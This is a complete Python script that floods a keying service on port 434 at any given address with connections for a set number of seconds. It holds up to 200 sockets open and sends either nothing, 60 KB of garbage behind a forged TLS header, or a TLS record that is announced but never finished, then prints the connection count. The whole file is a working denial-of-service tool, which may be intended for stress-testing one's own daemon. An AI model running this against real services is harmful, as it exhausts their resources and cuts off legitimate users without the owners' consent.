#!/usr/bin/env python3
# SPDX-License-Identifier: ISC
"""Connect to an agent's keying port as often as it goes, and waste its time there.

    flood.py HOW ADDRESS --seconds S

HOW is "hold", connections that say nothing; "garbage", 60 kilobytes that are no TLS; or
"half", a TLS record that is announced and never whole.  Prints how many connections
were made.
"""
import argparse
import collections
import socket
import time

PORT = 434
HELD = 200
WORDS = {"hold": b"",
         "garbage": b"\x16\x03\x01\xff\xff" + b"A" * 60000,
         "half": b"\x16\x03\x01\x40\x00" + b"\x01\x00\x3f\xfc" + b"B" * 16000}


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("how", choices=WORDS)
    parser.add_argument("address")
    parser.add_argument("--seconds", type=float, required=True)
    args = parser.parse_args()
    end = time.monotonic() + args.seconds
    count, held = 0, collections.deque()
    while time.monotonic() < end:
        try:
            one = socket.create_connection((args.address, PORT), timeout=1)
            count += 1
            one.sendall(WORDS[args.how])
        except OSError:
            continue
        held.append(one)
        if len(held) > HELD:
            held.popleft().close()
    print(count)


main()
